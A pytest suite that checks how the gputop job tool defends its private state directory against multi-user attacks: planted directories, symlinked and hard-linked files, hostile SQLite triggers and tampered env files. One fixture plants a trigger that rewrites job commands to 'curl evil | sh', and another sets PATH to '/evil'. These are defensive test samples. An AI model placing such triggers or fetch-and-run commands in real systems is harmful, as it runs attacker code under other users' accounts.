"""The state directory is the user's own and private, or refused by name; nothing in it is
followed through a link, changed through a link, or trusted because it is there.

Multi-user cases run a real second user (nobody, uid 65534) in a subprocess: it plants
directories, databases and links in a shared sticky directory, as an attacker on a shared
server would, and runs gputop as a victim without root's powers where a mode must count.
"""

from __future__ import annotations

import errno
import hashlib
import os
import re
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from helpers.jobs import (
    V100,
    asked_job,
    job,
    launch,
    probe_command,
    read_probe,
    run_cli,
    wait_until_running,
    wait_until_waiting,
)
from helpers.other_user import OTHER_UID, as_other_user, gputop_as_other_user
from helpers.waiting import wait_for

from gputop.core import private_files
from gputop.core.jobs.launch import RUN_DIR
from gputop.core.jobs.model import Job, JobState
from gputop.core.jobs.stop import stop_job
from gputop.core.jobs.store import JobStore, StoreError
from gputop.core.jobs.supervisor import _base_environment
from gputop.core.private_files import read_env_file, write_env_file


def make_job(store: JobStore, name: str = "train.py") -> Job:
    return store.create_job(asked_job(name=name, uuids=[V100[0]]))


def digest(path: Path) -> tuple[str, int]:
    """Content hash and mode: what an untouched file keeps."""
    return hashlib.sha256(path.read_bytes()).hexdigest(), stat.S_IMODE(path.stat().st_mode)


def bashrc(tmp_path: Path) -> Path:
    """A file of the victim's that a planted link points at."""
    target = tmp_path / "bashrc"
    target.write_text("export PATH=$HOME/bin:$PATH\n")
    os.chmod(target, 0o644)
    return target


# --- the directory ---------------------------------------------------------------------------


def test_a_state_directory_planted_by_another_user_is_refused(shared_dir: Path) -> None:
    planted = shared_dir / "gputop-state"
    made = as_other_user(["mkdir", "-m", "777", str(planted)])
    assert made.returncode == 0, made.stderr
    with pytest.raises(StoreError) as error:
        JobStore.open(planted)
    message = str(error.value)
    assert f"The job store directory {planted} belongs to nobody (uid {OTHER_UID})" in message
    assert "GPUTOP_STATE_DIR" in message
    assert list(planted.iterdir()) == []  # nothing created in it


def test_a_planted_store_with_a_trigger_in_another_users_directory_never_runs(
    shared_dir: Path,
) -> None:
    planted = shared_dir / "gputop-state"
    script = (
        "import sqlite3, sys, os; os.mkdir(sys.argv[1], 0o777); os.chmod(sys.argv[1], 0o777);"
        "c = sqlite3.connect(sys.argv[1] + '/jobs.sqlite3');"
        "c.execute('CREATE TABLE pwned (x)');"
        'c.execute("CREATE TRIGGER t AFTER INSERT ON pwned BEGIN SELECT 1; END");'
        "c.commit()"
    )
    made = as_other_user(["/usr/bin/python3", "-c", script, str(planted)])
    if made.returncode != 0:
        pytest.skip(f"the other user cannot run /usr/bin/python3: {made.stderr.strip()}")
    before = digest(planted / "jobs.sqlite3")
    with pytest.raises(StoreError, match="belongs to nobody"):
        JobStore.open(planted)
    assert digest(planted / "jobs.sqlite3") == before
    assert sorted(p.name for p in planted.iterdir()) == ["jobs.sqlite3"]


def test_a_trigger_in_our_own_store_is_refused_and_never_runs(state_dir: Path) -> None:
    with JobStore.open() as store:
        first = make_job(store)
    connection = sqlite3.connect(state_dir / "jobs.sqlite3")
    connection.execute(
        "CREATE TRIGGER evil AFTER INSERT ON jobs BEGIN "
        'UPDATE jobs SET command = \'["sh", "-c", "curl evil | sh"]\'; END'
    )
    connection.commit()
    connection.close()
    with pytest.raises(StoreError) as error:
        JobStore.open()
    assert "contains trigger 'evil', which gputop never creates" in str(error.value)
    connection = sqlite3.connect(state_dir / "jobs.sqlite3")
    commands = connection.execute("SELECT command FROM jobs").fetchall()
    connection.close()
    assert commands == [('["python", "train.py"]',)] and first.command == ("python", "train.py")


def test_a_state_directory_that_is_a_symlink_is_refused_and_its_target_untouched(
    tmp_path: Path,
) -> None:
    real = tmp_path / "elsewhere"
    real.mkdir(mode=0o755)
    os.chmod(real, 0o755)
    link = tmp_path / "state"
    link.symlink_to(real)
    with pytest.raises(StoreError, match=f"The job store directory {link} is a symbolic link"):
        JobStore.open(link)
    assert list(real.iterdir()) == [] and stat.S_IMODE(real.stat().st_mode) == 0o755


def test_a_state_directory_writable_by_others_is_refused(state_dir: Path) -> None:
    state_dir.mkdir()
    os.chmod(state_dir, 0o777)
    with pytest.raises(StoreError) as error:
        JobStore.open()
    assert f"{state_dir} is writable by other users (mode 0777)" in str(error.value)
    assert f"chmod 700 {state_dir}" in str(error.value)
    assert list(state_dir.iterdir()) == []


def test_a_state_directory_in_a_world_writable_parent_without_the_sticky_bit_is_refused(
    tmp_path: Path,
) -> None:
    parent = tmp_path / "open"
    parent.mkdir()
    os.chmod(parent, 0o777)
    with pytest.raises(StoreError) as error:
        JobStore.open(parent / "state")
    assert f"is in {parent}, which every user may write (mode 0777" in str(error.value)
    assert not (parent / "state").exists()


def test_a_state_directory_in_a_parent_another_user_owns_is_refused(tmp_path: Path) -> None:
    """The parent's owner may rename the state directory away whatever its mode (and
    whatever the sticky bit): XDG_STATE_HOME pointed at another user's directory, or at a
    link to one planted in /tmp, gave them the store (found by attacking it)."""
    parent = tmp_path / "theirs"
    parent.mkdir()
    os.chmod(parent, 0o755)
    os.chown(parent, OTHER_UID, OTHER_UID)
    with pytest.raises(StoreError) as error:
        JobStore.open(parent / "state")
    assert f"is in {parent}, which belongs to another user (uid {OTHER_UID})" in str(error.value)
    assert not (parent / "state").exists()


def test_a_state_directory_in_a_sticky_shared_directory_is_used(shared_dir: Path) -> None:
    with JobStore.open(shared_dir / "mine") as store:
        assert make_job(store).id == 1
    assert stat.S_IMODE((shared_dir / "mine").stat().st_mode) == 0o700


def test_a_logs_directory_that_is_a_symlink_is_refused(state_dir: Path, tmp_path: Path) -> None:
    state_dir.mkdir(mode=0o700)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (state_dir / "logs").symlink_to(elsewhere)
    with pytest.raises(StoreError, match="logs is a symbolic link"):
        JobStore.open()
    assert list(elsewhere.iterdir()) == []


# --- the files -------------------------------------------------------------------------------


def test_a_symlinked_database_is_refused_and_dev_null_keeps_its_mode(state_dir: Path) -> None:
    state_dir.mkdir(mode=0o700)
    (state_dir / "jobs.sqlite3").symlink_to("/dev/null")
    before = stat.S_IMODE(os.stat("/dev/null").st_mode)
    with pytest.raises(StoreError, match=re.escape("jobs.sqlite3 is a symbolic link")):
        JobStore.open()
    assert stat.S_IMODE(os.stat("/dev/null").st_mode) == before == 0o666


def test_a_symlinked_wal_file_is_refused_and_its_target_untouched(
    state_dir: Path, tmp_path: Path
) -> None:
    JobStore.open().close()
    target = bashrc(tmp_path)
    before = digest(target)
    for leftover in state_dir.glob("jobs.sqlite3-*"):
        leftover.unlink()
    (state_dir / "jobs.sqlite3-wal").symlink_to(target)
    with pytest.raises(StoreError, match=re.escape("jobs.sqlite3-wal is a symbolic link")):
        JobStore.open()
    assert digest(target) == before


def test_a_companion_file_removed_while_the_store_opens_is_absent_not_an_error(
    state_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # SQLite removes -wal and -shm as the last connection closes: another thread or gputop
    # may do that between the look at the file and its opening (seen in CI).
    JobStore.open().close()
    for suffix in ("-wal", "-shm"):
        (state_dir / f"jobs.sqlite3{suffix}").write_bytes(b"")
        (state_dir / f"jobs.sqlite3{suffix}").chmod(0o600)
    real_open = private_files.open_private_file

    def removed_first(dir_fd: int, directory: Path, name: str, *args: object, **kw: object) -> int:
        if name.endswith(("-wal", "-shm")):
            os.unlink(name, dir_fd=dir_fd)
        return real_open(dir_fd, directory, name, *args, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(private_files, "open_private_file", removed_first)
    with JobStore.open() as store:
        assert store.list_jobs() == []


def test_a_companion_file_that_stays_unopenable_is_still_an_error(
    state_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    JobStore.open().close()
    (state_dir / "jobs.sqlite3-shm").write_bytes(b"")
    (state_dir / "jobs.sqlite3-shm").chmod(0o600)

    real_open = os.open

    def fails(name: str, flags: int, *args: object, **kw: object) -> int:
        if flags & os.O_PATH:
            raise OSError(errno.EIO, os.strerror(errno.EIO))
        return real_open(name, flags, *args, **kw)

    monkeypatch.setattr(private_files.os, "open", fails)
    with pytest.raises(StoreError, match="input/output error"):
        private_files.check_store_file(
            os.open(state_dir, os.O_RDONLY),
            state_dir,
            "jobs.sqlite3-shm",
            "job store file",
            create=False,
        )


def test_a_database_of_another_user_in_our_directory_is_refused(state_dir: Path) -> None:
    JobStore.open().close()
    os.chown(state_dir / "jobs.sqlite3", OTHER_UID, OTHER_UID)
    with pytest.raises(StoreError, match=f"belongs to nobody \\(uid {OTHER_UID}\\)"):
        JobStore.open()


def test_a_symlinked_log_is_refused_and_its_target_untouched(
    state_dir: Path, tmp_path: Path
) -> None:
    target = bashrc(tmp_path)
    before = digest(target)
    JobStore.open().close()
    (state_dir / "logs" / "1.log").symlink_to(target)
    with (
        JobStore.open() as store,
        pytest.raises(StoreError, match=re.escape("1.log is a symbolic link")),
    ):
        make_job(store)
    assert digest(target) == before


def test_a_supervisor_never_appends_to_a_log_replaced_by_a_symlink(
    state_dir: Path, tmp_path: Path
) -> None:
    target = bashrc(tmp_path)
    before = digest(target)
    with JobStore.open() as store:
        queued = make_job(store)
    log = Path(queued.log_path)
    log.unlink()
    log.symlink_to(target)
    result = run_cli_supervisor(state_dir, queued.id)
    assert result.returncode == 0, result.stderr
    assert digest(target) == before and log.is_symlink()
    ended = job(state_dir, queued.id)
    assert ended.status_text == "failed 126"
    assert f"its log cannot be used: The job log {log} is a symbolic link" in (ended.note or "")


def run_cli_supervisor(state_dir: Path, job_id: int) -> subprocess.CompletedProcess[str]:
    """The supervisor as launch starts it, run to its end in the foreground."""
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "gputop.core.jobs.supervisor",
            "--state-dir",
            str(state_dir),
            "--job",
            str(job_id),
        ],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
        cwd="/",
    )


def test_a_hard_linked_log_is_refused(state_dir: Path, tmp_path: Path) -> None:
    JobStore.open().close()
    other = state_dir / "logs" / "mine.txt"
    other.write_text("keep me\n")
    os.link(other, state_dir / "logs" / "1.log")
    with JobStore.open() as store, pytest.raises(StoreError, match="has 2 hard links"):
        make_job(store)
    assert other.read_text() == "keep me\n"


def test_the_env_file_is_created_new_even_over_a_planted_symlink(
    state_dir: Path, tmp_path: Path
) -> None:
    target = bashrc(tmp_path)
    before = digest(target)
    JobStore.open().close()
    run = state_dir / RUN_DIR
    run.mkdir(mode=0o700)
    (run / "5.env.json").symlink_to(target)
    path = write_env_file(state_dir, RUN_DIR, 5, {"SECRET": "s3cret"})
    assert digest(target) == before
    assert not Path(path).is_symlink() and stat.S_IMODE(Path(path).stat().st_mode) == 0o600
    assert read_env_file(path) == {"SECRET": "s3cret"}
    assert not Path(path).exists()  # read once, then deleted


def test_a_symlinked_env_file_is_not_read_and_its_target_untouched(
    state_dir: Path, tmp_path: Path
) -> None:
    target = tmp_path / "victim.json"
    target.write_text('{"PATH": "/evil"}')
    JobStore.open().close()
    run = state_dir / RUN_DIR
    run.mkdir(mode=0o700)
    (run / "6.env.json").symlink_to(target)
    environ = _base_environment(str(run / "6.env.json"))
    assert environ.get("PATH") != "/evil"
    assert target.read_text() == '{"PATH": "/evil"}'


# --- permission problems are not damage ------------------------------------------------------


def test_an_unreadable_store_is_reported_as_a_permission_problem_not_moved_aside(
    other_users_dir: Path,
) -> None:
    state = other_users_dir / "state"
    env = {"GPUTOP_STATE_DIR": str(state), "HOME": str(other_users_dir)}
    created = gputop_as_other_user("run", "--fake", "v100x4", "--gpus", "0", "--", "true", env=env)
    assert created.returncode == 0, created.stderr
    locked = as_other_user(["chmod", "000", str(state / "jobs.sqlite3")])
    assert locked.returncode == 0

    listed = gputop_as_other_user("jobs", env=env)
    assert listed.returncode != 0
    assert "permission denied" in listed.stderr
    assert "It was left as it is (it is not damaged)" in listed.stderr
    assert f"chmod 600 {state / 'jobs.sqlite3'}" in listed.stderr
    assert "Traceback" not in listed.stderr
    assert not any("corrupt" in p.name for p in state.iterdir())


def test_a_store_directory_planted_for_another_user_is_refused_to_that_user(
    shared_dir: Path,
) -> None:
    """The other direction: root's directory is no more trusted by nobody."""
    planted = shared_dir / "state"
    planted.mkdir(mode=0o777)
    os.chmod(planted, 0o777)
    listed = gputop_as_other_user(
        "run", "--fake", "v100x4", "--gpus", "0", "--", "true",
        env={"GPUTOP_STATE_DIR": str(planted)},
    )  # fmt: skip
    assert listed.returncode == 1
    assert f"The job store directory {planted} belongs to root (uid 0)" in listed.stderr
    assert list(planted.iterdir()) == []


# --- a damaged store moved aside loses no running job ----------------------------------------


def test_a_running_job_is_recorded_again_when_its_damaged_store_is_moved_aside(
    state_dir: Path, tmp_path: Path
) -> None:
    out = tmp_path / "p.json"
    started = launch(state_dir, probe_command(out, "--sleep", "60"), gpus=(2,), grace_s=1)
    probe_pid = read_probe(out)["pid"]
    running = wait_until_running(state_dir, started.id)
    for leftover in state_dir.glob("jobs.sqlite3-*"):
        leftover.unlink()
    (state_dir / "jobs.sqlite3").write_bytes(b"damaged " * 4096)

    with JobStore.open(repair=True) as store:
        assert any("moved aside" in notice for notice in store.notices)

    def recorded_again() -> Job | None:
        with JobStore.open() as store:
            # the row rebuilt from the log (no token) until the supervisor records its own
            jobs = [j for j in store.list_jobs() if j.id == started.id and j.token is not None]
        return jobs[0] if jobs else None

    again = wait_for(recorded_again, "the supervisor to record its job in the new store")
    assert again is not None
    assert again.state is JobState.RUNNING and again.pid == running.pid
    assert again.physical_indices == (2,) and again.token == running.token

    listed = run_cli("jobs", env={**os.environ})
    assert f"{started.id}  " in listed.stdout and "running" in listed.stdout
    picked = run_cli("pick", "-n", "4", "--fake", "v100x4", env={**os.environ})
    assert picked.returncode == 1
    assert f"GPU 2: in use by gputop job {started.id}" in picked.stderr
    with JobStore.open() as store:
        message = stop_job(store, started.id, wait_s=15)
    assert "killed (SIGTERM)" in message
    wait_for(lambda: not os.path.exists(f"/proc/{probe_pid}"), "the job to end")


def test_a_waiting_job_is_recorded_again_when_its_damaged_store_is_moved_aside(
    state_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GPUTOP_FAKE", "v100x4")
    out = tmp_path / "p.json"
    queued = launch(state_dir, probe_command(out), gpus=(0,), wait=True)  # GPU 0 is busy
    waiting = wait_until_waiting(state_dir, queued.id)
    for leftover in state_dir.glob("jobs.sqlite3-*"):
        leftover.unlink()
    (state_dir / "jobs.sqlite3").write_bytes(b"damaged " * 4096)
    with JobStore.open(repair=True) as store:
        assert any("moved aside" in notice for notice in store.notices)

    def recorded_again() -> Job | None:
        with JobStore.open() as store:
            return next(
                (j for j in store.list_jobs() if j.id == queued.id and j.token is not None), None
            )

    again = wait_for(recorded_again, "the waiting job's supervisor to record it again")
    assert again is not None and again.state is JobState.WAITING
    assert again.supervisor_pid == waiting.supervisor_pid
    with JobStore.open() as store:
        stop_job(store, queued.id, wait_s=10)
    assert job(state_dir, queued.id).status_text == "killed (never started)"
    assert not out.exists()


def test_a_log_replaced_by_a_symbolic_link_is_not_read_through_it(tmp_path: Path) -> None:
    from gputop.core.jobs.logs import last_line, open_log

    secret = tmp_path / "secret"
    secret.write_text("the other file's line\n")
    log = tmp_path / "job.log"
    log.symlink_to(secret)
    assert last_line(log) is None
    with pytest.raises(OSError):
        open_log(log)


def test_a_fifo_in_place_of_a_log_is_refused_without_blocking(tmp_path: Path) -> None:
    from gputop.core.jobs.logs import last_line

    fifo = tmp_path / "job.log"
    os.mkfifo(fifo)
    assert last_line(fifo) is None
